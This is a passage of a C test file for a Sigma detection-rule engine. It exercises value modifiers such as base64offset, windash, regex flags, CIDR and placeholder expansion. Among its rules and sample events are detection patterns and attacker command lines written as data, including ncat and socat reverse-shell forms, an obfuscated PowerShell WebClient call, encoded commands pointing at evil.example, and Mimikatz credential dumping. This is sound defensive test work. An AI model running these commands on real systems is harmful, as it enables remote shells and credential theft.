/* Every value modifier of Sigma v2.1 (sigma-appendix-modifiers.md), each
 * with events it must match and events it must not, run through the whole
 * pipeline: loader, compiler, prefilter, matcher, JSON reader, hunt.
 *
 * Encoded expectations (base64, base64offset, UTF-16) were computed with
 * Python's base64 module when the tests were written and are hard-coded. */
#include "testutil.h"

#define PCRE2_CODE_UNIT_WIDTH 8
#include <pcre2.h>

#define NET_RULE(det) TU_RULE("{product: windows, category: network_connection}", det)

/* Alerts of rule on one event of channel/eid built from name/value pairs. */
static int match_ev(const char *rule, const char *channel, int eid, ...)
{
    va_list ap;
    va_start(ap, eid);
    char *ev = tu_event_v(channel, eid, ap);
    va_end(ap);
    struct tu_diags ds = {0};
    const char *texts[1] = {rule};
    struct tu_rules r = {.texts = texts, .ntexts = 1};
    int n = tu_count(&r, ev, &ds);
    if (n < 0) {
        fprintf(stderr, "  -- rule rejected:\n%s\n", rule);
        tu_diags_print(&ds, NULL);
    }
    tu_diags_free(&ds);
    free(ev);
    return n;
}

/* ------------------------------------------------------------ generic */

static void test_plain_equality(void **state)
{
    (void)state;
    const char *r = PROC_RULE("  sel:\n    Image: 'C:\\Windows\\System32\\cmd.exe'\n  condition: sel\n");
    expect_proc(1, r, "Image", "C:\\Windows\\System32\\cmd.exe");
    expect_proc(1, r, "Image", "c:\\windows\\system32\\CMD.EXE"); /* case-insensitive */
    expect_proc(0, r, "Image", "C:\\Windows\\System32\\cmd.exe.bak");
    expect_proc(0, r, "Image", "D:\\C:\\Windows\\System32\\cmd.exe");
    expect_proc(0, r, "CommandLine", "C:\\Windows\\System32\\cmd.exe"); /* another field */
}

static void test_contains(void **state)
{
    (void)state;
    const char *r = PROC_RULE("  sel:\n    CommandLine|contains: 'whoami'\n  condition: sel\n");
    expect_proc(1, r, "CommandLine", "cmd.exe /c whoami /all");
    expect_proc(1, r, "CommandLine", "WHOAMI");
    expect_proc(1, r, "CommandLine", "xwhoamix");
    expect_proc(0, r, "CommandLine", "cmd.exe /c who ami");
    expect_proc(0, r, "CommandLine", "whoam");
}

static void test_startswith(void **state)
{
    (void)state;
    const char *r = PROC_RULE("  sel:\n    Image|startswith: 'C:\\Users\\Public\\'\n  condition: sel\n");
    expect_proc(1, r, "Image", "C:\\Users\\Public\\evil.exe");
    expect_proc(1, r, "Image", "c:\\users\\public\\");
    expect_proc(0, r, "Image", "D:\\C:\\Users\\Public\\evil.exe");
    expect_proc(0, r, "Image", "C:\\Users\\Publi");
}

static void test_endswith(void **state)
{
    (void)state;
    const char *r = PROC_RULE("  sel:\n    Image|endswith: '\\certutil.exe'\n  condition: sel\n");
    expect_proc(1, r, "Image", "C:\\Windows\\System32\\certutil.exe");
    expect_proc(1, r, "Image", "\\CERTUTIL.EXE");
    expect_proc(0, r, "Image", "C:\\Windows\\System32\\certutil.exe.mui");
    expect_proc(0, r, "Image", "certutil.exe"); /* no backslash before it */
}

static void test_list_is_or(void **state)
{
    (void)state;
    const char *r = PROC_RULE("  sel:\n    Image|endswith:\n      - '\\rar.exe'\n      - '\\7z.exe'\n"
                              "  condition: sel\n");
    expect_proc(1, r, "Image", "C:\\x\\rar.exe");
    expect_proc(1, r, "Image", "C:\\x\\7z.exe");
    expect_proc(0, r, "Image", "C:\\x\\zip.exe");
}

static void test_all(void **state)
{
    (void)state;
    const char *r = PROC_RULE("  sel:\n    CommandLine|contains|all:\n      - ' -hp'\n      - ' a '\n"
                              "      - '.rar'\n  condition: sel\n");
    expect_proc(1, r, "CommandLine", "rar.exe a -hpSecret out.rar C:\\data");
    expect_proc(1, r, "CommandLine", "rar.exe -hpX a x.RAR"); /* any order */
    expect_proc(0, r, "CommandLine", "rar.exe a -hpSecret out.zip C:\\data");
    expect_proc(0, r, "CommandLine", "rar.exe x out.rar");
}

static void test_all_single_value_rejected(void **state)
{
    (void)state;
    assert_true(rule_rejected(PROC_RULE("  sel:\n    CommandLine|contains|all: 'x'\n  condition: sel\n"), "all"));
    assert_true(
        rule_rejected(PROC_RULE("  sel:\n    CommandLine|contains|all:\n      - 'x'\n  condition: sel\n"), "all"));
}

static void test_exists(void **state)
{
    (void)state;
    const char *yes = PROC_RULE("  sel:\n    ParentUser|exists: true\n  condition: sel\n");
    const char *no = PROC_RULE("  sel:\n    ParentUser|exists: false\n  condition: sel\n");
    expect_proc(1, yes, "ParentUser", "CORP\\bob");
    expect_proc(1, yes, "ParentUser", "");      /* present, empty */
    expect_proc(1, yes, "#ParentUser", "null"); /* present, null: only presence counts */
    expect_proc(0, yes, "User", "CORP\\bob");
    expect_proc(0, no, "ParentUser", "CORP\\bob");
    expect_proc(0, no, "ParentUser", "");
    expect_proc(1, no, "User", "CORP\\bob");
    assert_true(rule_rejected(PROC_RULE("  sel:\n    ParentUser|exists: 'yes'\n  condition: sel\n"), "exists"));
    assert_true(rule_rejected(PROC_RULE("  sel:\n    ParentUser|exists:\n      - true\n      - false\n"
                                        "  condition: sel\n"),
                              "exists"));
}

static void test_cased(void **state)
{
    (void)state;
    const char *r = PROC_RULE("  sel:\n    CommandLine|cased: 'Invoke-Mimikatz'\n  condition: sel\n");
    expect_proc(1, r, "CommandLine", "Invoke-Mimikatz");
    expect_proc(0, r, "CommandLine", "invoke-mimikatz");
    expect_proc(0, r, "CommandLine", "INVOKE-MIMIKATZ");
    const char *c = PROC_RULE("  sel:\n    CommandLine|contains|cased: 'DumpCreds'\n  condition: sel\n");
    expect_proc(1, c, "CommandLine", "Invoke-Mimikatz -DumpCreds");
    expect_proc(0, c, "CommandLine", "Invoke-Mimikatz -dumpcreds");
    const char *e = PROC_RULE("  sel:\n    CommandLine|cased|endswith: '.PS1'\n  condition: sel\n");
    expect_proc(1, e, "CommandLine", "run X.PS1");
    expect_proc(0, e, "CommandLine", "run x.ps1");
}

static void test_neq(void **state)
{
    (void)state;
    const char *r = PROC_RULE("  sel:\n    Image|endswith: '\\cmd.exe'\n    User|neq: 'NT AUTHORITY\\SYSTEM'\n"
                              "  condition: sel\n");
    expect_proc(1, r, "Image", "C:\\w\\cmd.exe", "User", "CORP\\bob");
    expect_proc(0, r, "Image", "C:\\w\\cmd.exe", "User", "NT AUTHORITY\\SYSTEM");
    expect_proc(0, r, "Image", "C:\\w\\cmd.exe", "User", "nt authority\\system"); /* case-insensitive */
    const char *l = PROC_RULE("  sel:\n    IntegrityLevel|neq:\n      - 'Low'\n      - 'Medium'\n  condition: sel\n");
    expect_proc(1, l, "IntegrityLevel", "High");
    expect_proc(1, l, "IntegrityLevel", "System");
    expect_proc(0, l, "IntegrityLevel", "Low");
    expect_proc(0, l, "IntegrityLevel", "medium");
    /* numbers: neq is the numeric "not equal" too */
    const char *n = PROC_RULE("  sel:\n    TerminalSessionId|neq: 0\n  condition: sel\n");
    expect_proc(1, n, "#TerminalSessionId", "2");
    expect_proc(0, n, "#TerminalSessionId", "0");
}

/* ----------------------------------------------------------- wildcards */

static void test_wildcards_in_values(void **state)
{
    (void)state;
    /* `\\*` is a backslash then a wildcard (`\*` alone would be a literal star) */
    const char *r = PROC_RULE("  sel:\n    Image: 'C:\\Windows\\\\*\\prog?.exe'\n  condition: sel\n");
    expect_proc(1, r, "Image", "C:\\Windows\\System32\\progA.exe");
    expect_proc(1, r, "Image", "C:\\Windows\\a\\b\\prog1.exe");
    expect_proc(0, r, "Image", "C:\\Windows\\System32\\prog.exe"); /* ? needs one character */
    expect_proc(0, r, "Image", "C:\\Windows\\System32\\progAB.exe");
    expect_proc(0, r, "Image", "C:\\Windows\\progA.exe"); /* the \\ around * is literal */
    const char *any = PROC_RULE("  sel:\n    ParentImage: '*'\n  condition: sel\n");
    expect_proc(1, any, "ParentImage", "x");
    expect_proc(1, any, "ParentImage", "");
    expect_proc(0, any, "Image", "x");
}

/* ------------------------------------------------------------ encodings */

static void test_base64(void **state)
{
    (void)state;
    const char *r = PROC_RULE("  sel:\n    CommandLine|base64: 'whoami'\n  condition: sel\n");
    expect_proc(1, r, "CommandLine", "d2hvYW1p");
    expect_proc(0, r, "CommandLine", "whoami");
    expect_proc(0, r, "CommandLine", "x d2hvYW1p"); /* no contains: the whole value */
    const char *c = PROC_RULE("  sel:\n    CommandLine|base64|contains: 'http://'\n  condition: sel\n");
    expect_proc(1, c, "CommandLine", "powershell -e aHR0cDovLw== -x");
    expect_proc(0, c, "CommandLine", "powershell -e aHR0cHM6Ly8="); /* https:// */
}

static void test_base64offset(void **state)
{
    (void)state;
    const char *r =
        PROC_RULE("  sel:\n    CommandLine|base64offset|contains: 'http://evil.example/'\n  condition: sel\n");
    /* base64 of "http://evil.example/a", "Xhttp://evil.example/a" and
     * "XYhttp://evil.example/a": the value at offsets 0, 1 and 2 */
    expect_proc(1, r, "CommandLine", "powershell -enc aHR0cDovL2V2aWwuZXhhbXBsZS9h");
    expect_proc(1, r, "CommandLine", "powershell -enc WGh0dHA6Ly9ldmlsLmV4YW1wbGUvYQ==");
    expect_proc(1, r, "CommandLine", "powershell -enc WFlodHRwOi8vZXZpbC5leGFtcGxlL2E=");
    /* "htp://evil.example/a" */
    expect_proc(0, r, "CommandLine", "powershell -enc aHRwOi8vZXZpbC5leGFtcGxlL2E=");
    expect_proc(0, r, "CommandLine", "powershell -enc http://evil.example/");
}

static void test_wide_base64offset(void **state)
{
    (void)state;
    /* as SigmaHQ writes it for PowerShell -EncodedCommand */
    const char *r =
        PROC_RULE("  sel:\n    CommandLine|wide|base64offset|contains: 'ping -n 1 10.0.0.1'\n  condition: sel\n");
    /* base64(utf16le(p + "ping -n 1 10.0.0.1")) for p = "", "a", "ab" */
    expect_proc(1, r, "CommandLine", "powershell -e cABpAG4AZwAgAC0AbgAgADEAIAAxADAALgAwAC4AMAAuADEA");
    expect_proc(1, r, "CommandLine", "powershell -e YQBwAGkAbgBnACAALQBuACAAMQAgADEAMAAuADAALgAwAC4AMQA=");
    expect_proc(1, r, "CommandLine", "powershell -e YQBiAHAAaQBuAGcAIAAtAG4AIAAxACAAMQAwAC4AMAAuADAALgAxAA==");
    /* the UTF-16BE and plain-ASCII encodings are not the wide one */
    expect_proc(0, r, "CommandLine", "powershell -e AHAAaQBuAGcAIAAtAG4AIAAxACAAMQAwAC4AMAAuADAALgAx");
    expect_proc(0, r, "CommandLine", "powershell -e cGluZyAtbiAxIDEwLjAuMC4x");

    const char *le =
        PROC_RULE("  sel:\n    CommandLine|utf16le|base64offset|contains: 'ping -n 1 10.0.0.1'\n  condition: sel\n");
    expect_proc(1, le, "CommandLine", "powershell -e YQBwAGkAbgBnACAALQBuACAAMQAgADEAMAAuADAALgAwAC4AMQA=");

    const char *be =
        PROC_RULE("  sel:\n    CommandLine|utf16be|base64offset|contains: 'ping -n 1 10.0.0.1'\n  condition: sel\n");
    expect_proc(1, be, "CommandLine", "x AHAAaQBuAGcAIAAtAG4AIAAxACAAMQAwAC4AMAAuADAALgAx");
    expect_proc(1, be, "CommandLine", "x AGEAcABpAG4AZwAgAC0AbgAgADEAIAAxADAALgAwAC4AMAAuADE=");
    expect_proc(1, be, "CommandLine", "x AGEAYgBwAGkAbgBnACAALQBuACAAMQAgADEAMAAuADAALgAwAC4AMQ==");
    expect_proc(0, be, "CommandLine", "x cABpAG4AZwAgAC0AbgAgADEAIAAxADAALgAwAC4AMAAuADEA");

    /* utf16: a byte order mark (FF FE) first, then UTF-16LE */
    const char *bom =
        PROC_RULE("  sel:\n    CommandLine|utf16|base64offset|contains: 'ping -n 1 10.0.0.1'\n  condition: sel\n");
    expect_proc(1, bom, "CommandLine", "x //5wAGkAbgBnACAALQBuACAAMQAgADEAMAAuADAALgAwAC4AMQA=");
    expect_proc(0, bom, "CommandLine", "x AHAAaQBuAGcAIAAtAG4AIAAxACAAMQAwAC4AMAAuADAALgAx");
}

static void test_wide_base64(void **state)
{
    (void)state;
    const char *r = PROC_RULE("  sel:\n    CommandLine|wide|base64: 'cmd'\n  condition: sel\n");
    expect_proc(1, r, "CommandLine", "YwBtAGQA"); /* base64 of 63 00 6d 00 64 00 */
    expect_proc(0, r, "CommandLine", "Y21k");     /* base64 of "cmd" */
}

/* UTF-16 without base64: the encoded bytes themselves, as a decoded JSON
 * string can carry them (\u0000 escapes). */
static void test_utf16_raw(void **state)
{
    (void)state;
    const char *le = PROC_RULE("  sel:\n    Payload|utf16le|contains: 'cmd'\n  condition: sel\n");
    const char *be = PROC_RULE("  sel:\n    Payload|utf16be|contains: 'cmd'\n  condition: sel\n");
    const char *ev_le = "{\"Channel\":\"" TU_SYSMON "\",\"EventID\":1,\"Payload\":\"xc\\u0000m\\u0000d\\u0000y\"}\n";
    const char *ev_be = "{\"Channel\":\"" TU_SYSMON "\",\"EventID\":1,\"Payload\":\"x\\u0000c\\u0000m\\u0000dy\"}\n";
    const char *ev_ascii = "{\"Channel\":\"" TU_SYSMON "\",\"EventID\":1,\"Payload\":\"cmd\"}\n";
    assert_matches(le, ev_le, 1);
    assert_matches(le, ev_ascii, 0);
    assert_matches(be, ev_be, 1);
    assert_matches(be, ev_ascii, 0);
}

/* -------------------------------------------------------------- windash */

static void test_windash(void **state)
{
    (void)state;
    const char *r = PROC_RULE("  sel:\n    CommandLine|windash|contains: ' -encodedcommand '\n  condition: sel\n");
    expect_proc(1, r, "CommandLine", "powershell -encodedcommand AAAA");
    expect_proc(1, r, "CommandLine", "powershell /encodedcommand AAAA");
    expect_proc(1, r, "CommandLine",
                "powershell \xe2\x80\x93"
                "encodedcommand AAAA"); /* en dash */
    expect_proc(1, r, "CommandLine",
                "powershell \xe2\x80\x94"
                "encodedcommand AAAA"); /* em dash */
    expect_proc(1, r, "CommandLine",
                "powershell \xe2\x80\x95"
                "encodedcommand AAAA"); /* horizontal bar */
    expect_proc(1, r, "CommandLine", "POWERSHELL -EncodedCommand AAAA");
    expect_proc(0, r, "CommandLine", "powershell +encodedcommand AAAA");
    expect_proc(0, r, "CommandLine",
                "powershell \xe2\x80\x92"
                "encodedcommand AAAA"); /* figure dash */
    expect_proc(0, r, "CommandLine", "powershell encodedcommand AAAA");

    /* a '/' in the rule is a switch too */
    const char *s = PROC_RULE("  sel:\n    CommandLine|windash|contains: ' /s '\n  condition: sel\n");
    expect_proc(1, s, "CommandLine", "rd -s x");
    expect_proc(1, s, "CommandLine", "rd /s x");

    /* a dash inside a word is not a switch: not expanded */
    const char *w = PROC_RULE("  sel:\n    CommandLine|windash|contains: 'x-ray'\n  condition: sel\n");
    expect_proc(1, w, "CommandLine", "run x-ray now");
    expect_proc(0, w, "CommandLine", "run x/ray now");
    expect_proc(0, w, "CommandLine", "run x\xe2\x80\x93ray now");

    /* several switches in one value */
    const char *two = PROC_RULE("  sel:\n    CommandLine|windash|contains|all:\n      - ' -nop '\n"
                                "      - ' -w hidden'\n  condition: sel\n");
    expect_proc(1, two, "CommandLine", "powershell /nop \xe2\x80\x94w hidden");
    expect_proc(0, two, "CommandLine", "powershell /nop w hidden");
}

static void test_windash_then_base64(void **state)
{
    (void)state;
    /* windash before an encoding: every dash variant is encoded. "-e " in
     * base64 is "LWUg", "/e " is "L2Ug". */
    const char *r = PROC_RULE("  sel:\n    CommandLine|windash|base64: ' -e '\n  condition: sel\n");
    expect_proc(1, r, "CommandLine", "IC1lIA=="); /* base64(" -e ") */
    expect_proc(1, r, "CommandLine", "IC9lIA=="); /* base64(" /e ") */
    expect_proc(0, r, "CommandLine", "ICtlIA=="); /* base64(" +e ") */
}

/* ----------------------------------------------------------------- re */

static void test_re(void **state)
{
    (void)state;
    const char *r = PROC_RULE("  sel:\n    CommandLine|re: 'whoami\\s+/(all|priv)'\n  condition: sel\n");
    expect_proc(1, r, "CommandLine", "cmd /c whoami   /priv");
    expect_proc(1, r, "CommandLine", "whoami /all");
    expect_proc(0, r, "CommandLine", "WHOAMI /all"); /* case-sensitive by default */
    expect_proc(0, r, "CommandLine", "whoami /groups");

    const char *i = PROC_RULE("  sel:\n    CommandLine|re|i: 'whoami\\s+/all'\n  condition: sel\n");
    expect_proc(1, i, "CommandLine", "WHOAMI /ALL");
    expect_proc(1, i, "CommandLine", "whoami /all");

    /* a regex is not anchored unless it says so */
    const char *a = PROC_RULE("  sel:\n    Image|re: '^C:\\\\Temp\\\\[a-z]+\\.exe$'\n  condition: sel\n");
    expect_proc(1, a, "Image", "C:\\Temp\\abc.exe");
    expect_proc(0, a, "Image", "D:\\C:\\Temp\\abc.exe");
    expect_proc(0, a, "Image", "C:\\Temp\\abc.exe.txt");

    /* m: ^ and $ at line ends */
    const char *m0 = PROC_RULE("  sel:\n    ScriptBlockText|re: '^Invoke-Evil$'\n  condition: sel\n");
    const char *m1 = PROC_RULE("  sel:\n    ScriptBlockText|re|m: '^Invoke-Evil$'\n  condition: sel\n");
    expect_proc(0, m0, "ScriptBlockText", "$a = 1\nInvoke-Evil\n$b = 2");
    expect_proc(1, m1, "ScriptBlockText", "$a = 1\nInvoke-Evil\n$b = 2");
    expect_proc(1, m0, "ScriptBlockText", "Invoke-Evil");

    /* s: . matches a newline */
    const char *s0 = PROC_RULE("  sel:\n    ScriptBlockText|re: 'begin.end'\n  condition: sel\n");
    const char *s1 = PROC_RULE("  sel:\n    ScriptBlockText|re|s: 'begin.end'\n  condition: sel\n");
    expect_proc(0, s0, "ScriptBlockText", "begin\nend");
    expect_proc(1, s1, "ScriptBlockText", "begin\nend");

    /* combined */
    const char *ims = PROC_RULE("  sel:\n    ScriptBlockText|re|i|m|s: '^begin.END$'\n  condition: sel\n");
    expect_proc(1, ims, "ScriptBlockText", "x\nBEGIN\nend\ny");

    /* values in a list are ORed */
    const char *l = PROC_RULE("  sel:\n    CommandLine|re:\n      - 'nc(at)? -e'\n      - 'socat .*exec'\n"
                              "  condition: sel\n");
    expect_proc(1, l, "CommandLine", "ncat -e /bin/sh 10.0.0.1");
    expect_proc(1, l, "CommandLine", "socat tcp:1.2.3.4:80 exec:sh");
    expect_proc(0, l, "CommandLine", "netcat -l");

    /* long values (24 bytes and more) are checked for the regex's rare bytes
     * before PCRE2 runs: the backtick and the "${" are required, letters are never
     * used (caseless matching has more than two cases of some) */
    const char *t = PROC_RULE("  sel:\n    CommandLine|re: '\\w+`(?:\\w+|-|.)`[\\w+|\\s]'\n  condition: sel\n");
    expect_proc(1, t, "CommandLine", "powershell -c IN`V`o`Ke-eXp`ResSIOn (New-Object Net.WebClient)");
    expect_proc(0, t, "CommandLine", "powershell -c Invoke-Expression (New-Object Net.WebClient)");
    const char *e =
        PROC_RULE("  sel:\n    CommandLine|re: '(?i)\\$\\{`?e`?n`?v`?:`?p`?a`?t`?h`?\\}'\n  condition: sel\n");
    expect_proc(1, e, "CommandLine", "powershell -nop -c ${E`Nv:PaTh} | out-null and more");
    expect_proc(0, e, "CommandLine", "powershell -nop -c $env:path | out-null and more");
    const char *k = PROC_RULE("  sel:\n    CommandLine|re: '(?i)-ENC#'\n  condition: sel\n");
    expect_proc(1, k, "CommandLine", "powershell.exe -enc#SQBFAFgAKABOAGUAdwA");
    expect_proc(0, k, "CommandLine", "powershell.exe -enc SQBFAFgAKABOAGUAdwA");
}

/* A value shorter than any match of the regex is turned down before the
 * regex runs (its minimum length, in characters): the answer is PCRE2's own
 * at, below and above that length, in UTF-8 too, and behind a lookbehind. */
static void test_re_shorter_than_any_match(void **state)
{
    (void)state;
    static const struct {
        const char *re;
        const char *subjects[6];
    } cases[] = {
        {"\\s[a-f0-9]{8}\\s", {"", " 0123456 ", " 01234567 ", "x 01234567 y", " 0123456x ", "01234567"}},
        {"\xc3\xa9{3}", {"\xc3\xa9\xc3\xa9", "\xc3\xa9\xc3\xa9\xc3\xa9", "eee", "\xc3\xa9\xc3\xa9x", "ab", ""}},
        {"(?<=x)abc", {"abc", "xabc", "xab", "yabc", "xxabcx", "x"}},
        {"a?", {"", "b", "a", "", "", ""}},
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(*cases); i++) {
        int err;
        PCRE2_SIZE off;
        pcre2_code *re = pcre2_compile((PCRE2_SPTR)cases[i].re, PCRE2_ZERO_TERMINATED, PCRE2_UTF, &err, &off, NULL);
        assert_non_null(re);
        pcre2_match_data *md = pcre2_match_data_create(1, NULL);
        struct tu_str rule = {0};
        tu_str_printf(&rule, PROC_RULE("  sel:\n    CommandLine|re: '%s'\n  condition: sel\n"), cases[i].re);
        for (size_t k = 0; k < 6; k++) {
            const char *subj = cases[i].subjects[k];
            int want = pcre2_match(re, (PCRE2_SPTR)subj, strlen(subj), 0, 0, md, NULL) >= 0;
            expect_proc(want, rule.p, "CommandLine", subj);
        }
        tu_str_free(&rule);
        pcre2_match_data_free(md);
        pcre2_code_free(re);
    }
}

static void test_re_flags_need_re(void **state)
{
    (void)state;
    assert_true(rule_rejected(PROC_RULE("  sel:\n    CommandLine|i: 'x'\n  condition: sel\n"), "re"));
    assert_true(rule_rejected(PROC_RULE("  sel:\n    CommandLine|contains|m: 'x'\n  condition: sel\n"), "re"));
    assert_true(rule_rejected(PROC_RULE("  sel:\n    CommandLine|s: 'x'\n  condition: sel\n"), "re"));
    /* a bad regular expression is a rule error, with the offset */
    assert_true(
        rule_rejected(PROC_RULE("  sel:\n    CommandLine|re: 'a(b'\n  condition: sel\n"), "regular expression"));
}

/* ---------------------------------------------------------------- cidr */

static void test_cidr_ipv4(void **state)
{
    (void)state;
    const char *r = NET_RULE("  sel:\n    DestinationIp|cidr:\n      - '10.0.0.0/8'\n      - '192.168.1.0/24'\n"
                             "  condition: sel\n");
    assert_int_equal(match_ev(r, TU_SYSMON, 3, "DestinationIp", "10.1.2.3", NULL), 1);
    assert_int_equal(match_ev(r, TU_SYSMON, 3, "DestinationIp", "10.255.255.255", NULL), 1);
    assert_int_equal(match_ev(r, TU_SYSMON, 3, "DestinationIp", "192.168.1.77", NULL), 1);
    assert_int_equal(match_ev(r, TU_SYSMON, 3, "DestinationIp", "192.168.2.77", NULL), 0);
    assert_int_equal(match_ev(r, TU_SYSMON, 3, "DestinationIp", "11.0.0.1", NULL), 0);
    assert_int_equal(match_ev(r, TU_SYSMON, 3, "DestinationIp", "9.255.255.255", NULL), 0);
    assert_int_equal(match_ev(r, TU_SYSMON, 3, "DestinationIp", "not an address", NULL), 0);
    assert_int_equal(match_ev(r, TU_SYSMON, 3, "DestinationIp", "fe80::1", NULL), 0);
    /* an IPv4-mapped IPv6 address is the IPv4 address */
    assert_int_equal(match_ev(r, TU_SYSMON, 3, "DestinationIp", "::ffff:10.1.2.3", NULL), 1);
    assert_int_equal(match_ev(r, TU_SYSMON, 3, "DestinationIp", "::ffff:11.1.2.3", NULL), 0);
    /* a prefix that is not on a byte boundary */
    const char *odd = NET_RULE("  sel:\n    DestinationIp|cidr: '172.16.0.0/12'\n  condition: sel\n");
    assert_int_equal(match_ev(odd, TU_SYSMON, 3, "DestinationIp", "172.31.255.1", NULL), 1);
    assert_int_equal(match_ev(odd, TU_SYSMON, 3, "DestinationIp", "172.32.0.1", NULL), 0);
    /* a single host */
    const char *host = NET_RULE("  sel:\n    DestinationIp|cidr: '8.8.8.8/32'\n  condition: sel\n");
    assert_int_equal(match_ev(host, TU_SYSMON, 3, "DestinationIp", "8.8.8.8", NULL), 1);
    assert_int_equal(match_ev(host, TU_SYSMON, 3, "DestinationIp", "8.8.8.9", NULL), 0);
}

static void test_cidr_ipv6(void **state)
{
    (void)state;
    const char *r = NET_RULE("  sel:\n    DestinationIp|cidr:\n      - 'fe80::/10'\n      - '2001:db8::/32'\n"
                             "  condition: sel\n");
    assert_int_equal(match_ev(r, TU_SYSMON, 3, "DestinationIp", "fe80::1", NULL), 1);
    assert_int_equal(match_ev(r, TU_SYSMON, 3, "DestinationIp", "FEBF:1234::9", NULL), 1);
    assert_int_equal(match_ev(r, TU_SYSMON, 3, "DestinationIp", "fec0::1", NULL), 0);
    assert_int_equal(match_ev(r, TU_SYSMON, 3, "DestinationIp", "2001:db8:aa::1", NULL), 1);
    assert_int_equal(match_ev(r, TU_SYSMON, 3, "DestinationIp", "2001:db9::1", NULL), 0);
    assert_int_equal(match_ev(r, TU_SYSMON, 3, "DestinationIp", "10.0.0.1", NULL), 0);
}

/* A list of networks reads the value as an address once for the whole
 * list; the same networks as separate selections read it once each. Both
 * must agree on every address, and a neq list too. */
static void test_cidr_list_once(void **state)
{
    (void)state;
    static const char *const nets[] = {"10.0.0.0/8", "172.16.0.0/12", "fe80::/10", "192.168.1.0/24", "8.8.8.8/32"};
    static const char *const addrs[] = {
        "10.1.2.3",    "172.31.255.1", "172.32.0.1", "fe80::1",        "FEBF::9", "::ffff:10.9.9.9", "192.168.1.7",
        "192.168.2.7", "8.8.8.8",      "8.8.8.9",    "not an address", "",        " 10.0.0.1 ",      "[fe80::2]"};
    struct tu_str list = {0}, split = {0};
    tu_str_puts(&list, "  sel:\n    DestinationIp|cidr:\n");
    for (size_t i = 0; i < sizeof(nets) / sizeof(*nets); i++) {
        tu_str_printf(&list, "      - '%s'\n", nets[i]);
        tu_str_printf(&split, "  sel%zu:\n    DestinationIp|cidr: '%s'\n", i, nets[i]);
    }
    tu_str_puts(&list, "  condition: sel\n");
    tu_str_puts(&split, "  condition: 1 of sel*\n");
    struct tu_str one_s = {0}, each_s = {0};
    tu_str_printf(&one_s, NET_RULE("%s"), list.p);
    tu_str_printf(&each_s, NET_RULE("%s"), split.p);
    const char *one = one_s.p, *each = each_s.p;
    int hits = 0;
    for (size_t i = 0; i < sizeof(addrs) / sizeof(*addrs); i++) {
        int a = match_ev(one, TU_SYSMON, 3, "DestinationIp", addrs[i], NULL);
        int b = match_ev(each, TU_SYSMON, 3, "DestinationIp", addrs[i], NULL);
        assert_int_equal(a, b);
        hits += a;
    }
    assert_int_equal(hits, 9); /* the trimmed and bracketed forms are addresses too */
    tu_str_free(&list);
    tu_str_free(&split);
    tu_str_free(&one_s);
    tu_str_free(&each_s);
}

static void test_cidr_bad_rejected(void **state)
{
    (void)state;
    assert_true(
        rule_rejected(NET_RULE("  sel:\n    DestinationIp|cidr: '10.0.0.0/33'\n  condition: sel\n"), "10.0.0.0/33"));
    assert_true(
        rule_rejected(NET_RULE("  sel:\n    DestinationIp|cidr: 'example.com'\n  condition: sel\n"), "example.com"));
    assert_true(rule_rejected(NET_RULE("  sel:\n    DestinationIp|cidr: '10.0.0/8'\n  condition: sel\n"), "10.0.0/8"));
    assert_true(
        rule_rejected(NET_RULE("  sel:\n    DestinationIp|cidr: 'fe80::/129'\n  condition: sel\n"), "fe80::/129"));
    assert_true(
        rule_rejected(NET_RULE("  sel:\n    DestinationIp|cidr: '10.0.0.0/-1'\n  condition: sel\n"), "10.0.0.0/-1"));
}

/* --------------------------------------------------------------- expand */

static const char *const placeholders = "Administrators:\n  - 'adm_*'\n  - 'root'\n"
                                        "DomainControllers: 'dc0?.corp.example'\n";

static void test_expand(void **state)
{
    (void)state;
    const char *r = PROC_RULE("  sel:\n    User|expand: '%Administrators%'\n  condition: sel\n");
    char *e1 = tu_event(TU_SYSMON, 1, "User", "adm_bob", NULL);
    char *e2 = tu_event(TU_SYSMON, 1, "User", "ROOT", NULL);
    char *e3 = tu_event(TU_SYSMON, 1, "User", "bob", NULL);
    char *e4 = tu_event(TU_SYSMON, 1, "User", "%Administrators%", NULL);
    assert_matches_ph(r, placeholders, e1, 1);
    assert_matches_ph(r, placeholders, e2, 1);
    assert_matches_ph(r, placeholders, e3, 0);
    assert_matches_ph(r, placeholders, e4, 0);

    /* a list of values, some with placeholders */
    const char *l = PROC_RULE("  sel:\n    User|expand:\n      - '%Administrators%'\n      - 'svc_backup'\n"
                              "  condition: sel\n");
    char *e5 = tu_event(TU_SYSMON, 1, "User", "svc_backup", NULL);
    assert_matches_ph(l, placeholders, e1, 1);
    assert_matches_ph(l, placeholders, e5, 1);
    assert_matches_ph(l, placeholders, e3, 0);

    /* text around the placeholder; a placeholder value with a wildcard */
    const char *t = PROC_RULE("  sel:\n    Computer|expand: '%DomainControllers%'\n  condition: sel\n");
    char *e6 = tu_event(TU_SYSMON, 1, "Computer", "DC01.corp.example", NULL);
    char *e7 = tu_event(TU_SYSMON, 1, "Computer", "ws01.corp.example", NULL);
    assert_matches_ph(t, placeholders, e6, 1);
    assert_matches_ph(t, placeholders, e7, 0);
    const char *around = PROC_RULE("  sel:\n    CommandLine|expand: 'net user %Administrators% /domain'\n"
                                   "  condition: sel\n");
    char *e8 = tu_event(TU_SYSMON, 1, "CommandLine", "net user root /domain", NULL);
    char *e9 = tu_event(TU_SYSMON, 1, "CommandLine", "net user adm_x /domain", NULL);
    char *e10 = tu_event(TU_SYSMON, 1, "CommandLine", "net user bob /domain", NULL);
    assert_matches_ph(around, placeholders, e8, 1);
    assert_matches_ph(around, placeholders, e9, 1);
    assert_matches_ph(around, placeholders, e10, 0);

    /* without expand, %name% is a literal */
    const char *lit = PROC_RULE("  sel:\n    User: '%Administrators%'\n  condition: sel\n");
    assert_matches_ph(lit, placeholders, e4, 1);
    assert_matches_ph(lit, placeholders, e1, 0);
    free(e1);
    free(e2);
    free(e3);
    free(e4);
    free(e5);
    free(e6);
    free(e7);
    free(e8);
    free(e9);
    free(e10);
}

static void test_expand_escaped_percent(void **state)
{
    (void)state;
    /* spec: `field|expand: \%plain%name%` is "%plain" then the placeholder */
    const char *r = PROC_RULE("  sel:\n    User|expand: '\\%plain%Administrators%'\n  condition: sel\n");
    char *yes = tu_event(TU_SYSMON, 1, "User", "%plainroot", NULL);
    char *yes2 = tu_event(TU_SYSMON, 1, "User", "%plainadm_x", NULL);
    char *no = tu_event(TU_SYSMON, 1, "User", "%plain%Administrators%", NULL);
    char *no2 = tu_event(TU_SYSMON, 1, "User", "\\%plainroot", NULL);
    assert_matches_ph(r, placeholders, yes, 1);
    assert_matches_ph(r, placeholders, yes2, 1);
    assert_matches_ph(r, placeholders, no, 0);
